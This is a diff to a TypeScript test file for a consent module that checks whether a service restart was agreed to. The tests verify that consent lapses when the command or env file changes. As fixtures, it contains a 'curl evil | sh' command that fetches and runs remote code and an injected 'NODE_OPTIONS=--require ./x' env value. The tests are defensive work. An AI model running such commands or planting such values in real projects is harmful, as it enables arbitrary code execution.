@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { Consent } from '../../../../src/app/consent/consent';
 import type { Agreement } from '../../../../src/app/consent/consent';
+import type { Preflight, StepPreflight } from '../../../../src/app/ports';
 import type { ServiceSpec } from '../../../../src/core/model/service';
 import { serviceSpec } from '../../../support/fakes/specs';
 
@@ -13,21 +14,23 @@ class Workspace {
     serviceSpec('db', { port: 5432, envFiles: ['.env'] }),
   ];
 
+  readonly preflight: Preflight & StepPreflight = {
+    prepare: ({ command, cwd, envFiles }) =>
+      Promise.resolve({
+        ok: true,
+        launch: { command, cwd, env: Object.fromEntries(envFiles.map((file) => [file, this.files.get(file) ?? ''])) },
+      }),
+    prepareStep: (_spec, { name, command }) =>
+      Promise.resolve({ ok: true, step: { name, launch: { command, cwd: '', env: {} } } }),
+  };
+
   readonly consent = new Consent({
     hash: (text) => `#${text}`,
     memory: {
       read: (agreement, identity) => this.kept.get(`${agreement} ${identity}`),
       write: (agreement, identity, fingerprint) => void this.kept.set(`${agreement} ${identity}`, fingerprint),
     },
-    preflight: {
-      prepare: ({ command, cwd, envFiles }) =>
-        Promise.resolve({
-          ok: true,
-          launch: { command, cwd, env: Object.fromEntries(envFiles.map((file) => [file, this.files.get(file) ?? ''])) },
-        }),
-      prepareStep: (_spec, { name, command }) =>
-        Promise.resolve({ ok: true, step: { name, launch: { command, cwd: '', env: {} } } }),
-    },
+    preflight: this.preflight,
   });
 
   change(id: string, changes: Partial<ServiceSpec>): void {
@@ -109,6 +112,18 @@ describe('consent to restarts', () => {
     assert.equal(await workspace.consent.isAgreed(workspace.get('db')), true);
     workspace.change('db', { command: 'curl evil | sh' });
     assert.equal(await workspace.consent.isAgreed(workspace.get('db')), false);
+  });
+
+  it('is about the launch that was prepared, whatever the files say a moment later', async () => {
+    const workspace = new Workspace();
+    const db = workspace.get('db');
+    await workspace.consent.record('started', db);
+    workspace.files.set('.env', 'NODE_OPTIONS=--require ./x');
+    const prepared = await workspace.preflight.prepare(db);
+    workspace.files.set('.env', 'A=1');
+    assert.equal(await workspace.consent.isAgreed(db, prepared), false);
+    await workspace.consent.record('started', db, prepared);
+    assert.equal(await workspace.consent.isAgreed(db), false);
   });
 
   it('holds when the id changes, because folder and key stay the same', async () => {
